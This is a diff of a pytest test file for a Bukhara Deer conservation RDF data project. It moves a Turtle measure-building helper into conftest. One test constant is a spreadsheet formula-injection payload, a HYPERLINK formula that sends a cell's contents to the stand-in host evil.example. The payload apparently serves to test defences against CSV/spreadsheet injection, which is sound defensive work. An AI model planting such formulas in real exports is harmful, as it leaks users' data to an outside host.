@@ -23,29 +23,13 @@ from pathlib import Path
 import pytest
 from rdflib import Literal, URIRef
 
-from conftest import TURTLE_PREFIXES as PREFIXES, steward_paths
+from conftest import TURTLE_PREFIXES as PREFIXES, new_measure as measure, steward_paths
 
 BASE = "https://w3id.org/bukhara-deer/"
 PASSWORD = "correct horse battery"
 NEW_PASSWORD = "another horse battery"
 TEXT_99 = "Publish an annual studbook of the captive Bukhara Deer groups."
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def measure(local: str, number: str, text: str) -> str:
-    text = text.replace('"', '\\"')  # a Turtle string
-    return PREFIXES + f"""
-measure:{local} a bkd:Measure ;
-    rdfs:label "Measure {number}"@en ;
-    bkd:number "{number}" ;
-    bkd:inProgramme programme:wp-2025-2032 ;
-    bkd:inSection section:9.0 ;
-    bkd:text "{text}" ;
-    bkd:priorityAsGiven "2" ; bkd:priority priority:2 ;
-    bkd:responsibility "GOs, NGOs" ;
-    bkd:leadActorType actor:go , actor:ngo ; bkd:planningUnit unit:captive-breeding-groups ;
-    bkd:describedIn document:unep-cms-bkd-mos3-doc4 .
-"""
 
 
 NEW_MEASURE = measure("9.9", "9.9", TEXT_99)
